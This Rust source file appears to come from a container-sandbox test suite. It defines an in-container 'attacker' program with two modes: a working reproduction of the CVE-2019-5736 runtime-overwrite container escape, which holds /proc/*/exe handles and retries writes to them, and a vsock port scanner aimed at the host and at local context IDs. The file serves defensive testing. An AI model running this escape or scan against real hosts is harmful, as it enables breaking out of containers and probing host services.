//! The attacker's program: this test program under another name, inside a container.

use std::collections::BTreeMap;
use std::env;
use std::fs::{self, File, OpenOptions};
use std::io::{Read, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::process::ExitCode;

/// Where it is in the container.
pub const PATH: &str = "/bin/attacker";

/// Holds every foreign executable that a process of the container shows, and writes to it as soon as it can.
pub const OVERWRITE_RUNTIME: &str = "overwrite-runtime";

/// Knocks at the machine's vsock ports.
pub const KNOCK: &str = "knock";

/// Runs the attack that the arguments name, if this process is the attacker.
pub fn run() -> Option<ExitCode> {
    let mut args = env::args();
    if args.next()? != PATH {
        return None;
    }
    match args.next()?.as_str() {
        OVERWRITE_RUNTIME => overwrite_runtime(),
        KNOCK => knock(),
        _ => {}
    }
    Some(ExitCode::SUCCESS)
}

/// CVE-2019-5736. A program that is being executed cannot be written to, so the open file is kept and the write tried
/// again when its processes may have ended.
fn overwrite_runtime() {
    let own: Vec<_> = ["/proc/self/exe", "/bin/busybox"]
        .iter()
        .filter_map(|path| fs::metadata(path).ok())
        .map(|file| (file.dev(), file.ino()))
        .collect();
    // By identity and device of the mount: the same file may be seen through mounts that differ.
    let mut held: BTreeMap<(u64, u64, bool), File> = BTreeMap::new();
    println!("watching");
    loop {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            if entry.file_name().to_string_lossy().parse::<u32>().is_err() {
                continue;
            }
            let Ok(file) = OpenOptions::new()
                .read(true)
                .custom_flags(libc::O_PATH)
                .open(entry.path().join("exe"))
            else {
                continue;
            };
            let Ok(identity) = file.metadata().map(|file| (file.dev(), file.ino())) else {
                continue;
            };
            let writable_mount = !is_read_only(&file);
            if own.contains(&identity) {
                continue;
            }
            let key = (identity.0, identity.1, writable_mount);
            if held.insert(key, file).is_none() {
                println!("caught a binary");
            }
        }
        held.retain(|_, file| {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            match OpenOptions::new().write(true).open(path) {
                // A sealed copy can be opened, and refuses what is written.
                Ok(mut file) => match file.write_all(b"#!overwritten\n") {
                    Ok(()) => {
                        println!("OVERWRITTEN");
                        false
                    }
                    Err(error) => {
                        println!("refused: {error}");
                        true
                    }
                },
                Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => true,
                Err(error) => {
                    println!("refused: {error}");
                    true
                }
            }
        });
    }
}

fn is_read_only(file: &File) -> bool {
    nix::sys::statvfs::fstatvfs(file)
        .is_ok_and(|one| one.flags().contains(nix::sys::statvfs::FsFlags::ST_RDONLY))
}

/// Tries ports of the host, of this machine, and of the loopback device, by vsock.
fn knock() {
    const HOST: u32 = 2;
    const LOCAL: u32 = 1;
    for cid in [LOCAL, HOST, 3, own_cid().unwrap_or(3)] {
        for port in 1..=2048 {
            if let Some(mut stream) = connect(cid, port) {
                // Somebody listens. Whether it hears us is what counts: a request, be it a bad one, is answered, and a
                // greeting is waited for; who is turned away reads the end at once.
                let _ = stream.write_all(b"\0\0\0\x0b\0\0\0\x01\x01\0hello world");
                let turned_away = match stream.read(&mut [0]) {
                    Ok(length) => length == 0,
                    Err(error) => error.kind() == std::io::ErrorKind::ConnectionReset,
                };
                if !turned_away {
                    println!("OPEN {cid} {port}");
                }
            }
        }
    }
    println!("knocked");
}

fn own_cid() -> Option<u32> {
    const IOCTL_VM_SOCKETS_GET_LOCAL_CID: libc::Ioctl = 0x7b9;
    let device = File::open("/dev/vsock").ok()?;
    let mut cid = 0u32;
    // SAFETY: the request writes one u32.
    let answer = unsafe {
        libc::ioctl(
            device.as_raw_fd(),
            IOCTL_VM_SOCKETS_GET_LOCAL_CID,
            &raw mut cid,
        )
    };
    (answer == 0).then_some(cid)
}

fn connect(cid: u32, port: u32) -> Option<File> {
    // SAFETY: no memory is passed.
    let fd = unsafe { libc::socket(libc::AF_VSOCK, libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0) };
    if fd < 0 {
        return None;
    }
    // SAFETY: the kernel has just given us this descriptor.
    let socket = unsafe { OwnedFd::from_raw_fd(fd) };
    let address = nix::sys::socket::VsockAddr::new(cid, port);
    nix::sys::socket::connect(socket.as_raw_fd(), &address).ok()?;
    let limit = nix::sys::time::TimeVal::new(5, 0);
    let option = nix::sys::socket::sockopt::ReceiveTimeout;
    nix::sys::socket::setsockopt(&socket, option, &limit).ok()?;
    Some(socket.into())
}
